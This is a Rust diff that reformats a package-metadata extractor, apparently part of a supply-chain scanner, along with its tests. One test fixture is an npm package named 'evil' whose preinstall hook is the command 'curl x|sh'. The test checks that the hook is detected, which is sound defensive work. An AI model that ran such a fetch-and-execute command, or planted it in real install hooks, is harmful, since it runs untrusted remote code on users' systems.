@@ -49,9 +49,7 @@ pub fn package_meta(entries: &[Entry]) -> Option<ArchiveMeta> {
         .filter(|e| {
             let p = e.path.as_str();
             let file = p.rsplit('/').next().unwrap_or(p);
-            file == "PKG-INFO"
-                && !p.contains(".egg-info/")
-                && depth(p) <= 2
+            file == "PKG-INFO" && !p.contains(".egg-info/") && depth(p) <= 2
                 || (file == "METADATA" && parent_name(p).is_some_and(|d| d.ends_with(".dist-info")))
         })
         .min_by_key(|e| depth(&e.path));
@@ -261,7 +259,10 @@ mod tests {
         let m = package_meta(&entries).unwrap();
         assert_eq!(m.ecosystem, Some(Ecosystem::Npm));
         assert_eq!((m.name.as_str(), m.version.as_str()), ("evil", "1.0.1"));
-        assert_eq!((m.author.as_str(), m.author_email.as_str()), ("Eve", "eve@x.test"));
+        assert_eq!(
+            (m.author.as_str(), m.author_email.as_str()),
+            ("Eve", "eve@x.test")
+        );
         let hooks: Vec<&str> = m.install_hooks.iter().map(|h| h.script.as_str()).collect();
         assert_eq!(hooks, ["preinstall", "postinstall"]);
         assert_eq!(m.install_hooks[0].command, "curl x|sh");
@@ -270,6 +271,9 @@ mod tests {
     #[test]
     fn no_metadata_is_none_and_bad_json_is_none() {
         assert_eq!(package_meta(&[entry("a.py", "x")]), None);
-        assert_eq!(package_meta(&[entry("package/package.json", "{oops")]), None);
+        assert_eq!(
+            package_meta(&[entry("package/package.json", "{oops")]),
+            None
+        );
     }
 }
